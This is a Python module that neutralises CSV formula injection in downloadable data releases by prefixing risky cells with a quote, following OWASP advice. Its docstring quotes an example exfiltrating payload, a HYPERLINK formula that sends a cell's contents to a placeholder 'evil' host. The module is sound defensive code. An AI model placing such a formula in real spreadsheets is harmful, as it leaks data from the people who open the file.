"""Released rows as a download that a spreadsheet opens safely.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets: a synthetic value such as ``=HYPERLINK("http://evil/?"&A1, "click")`` (learned
from a value someone planted in the real data, or simply sampled) runs when a person opens the file. As OWASP
recommends for CSV injection, such a cell is prefixed with a single quote in the download, which spreadsheets
show as text; numbers (``-1.5``, ``+3``, ``-2e-05``) stay as they are. The stored release is not changed.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Final

__all__ = ["FORMULA_START", "neutralise", "safe_csv"]

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
_ROWS_PER_CHUNK: Final = 2000


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet will show it as text: prefixed with ``'`` if it would start a formula."""
    if cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def safe_csv(path: Path) -> Iterator[bytes]:
    """The CSV file at ``path``, cell by cell neutralised, in chunks (a release may have millions of rows)."""
    with path.open(newline="", encoding="utf-8") as handle:
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        for number, row in enumerate(csv.reader(handle), start=1):
            writer.writerow([neutralise(cell) for cell in row])
            if number % _ROWS_PER_CHUNK == 0:
                yield buffer.getvalue().encode("utf-8")
                buffer.seek(0)
                buffer.truncate()
        if buffer.tell():
            yield buffer.getvalue().encode("utf-8")
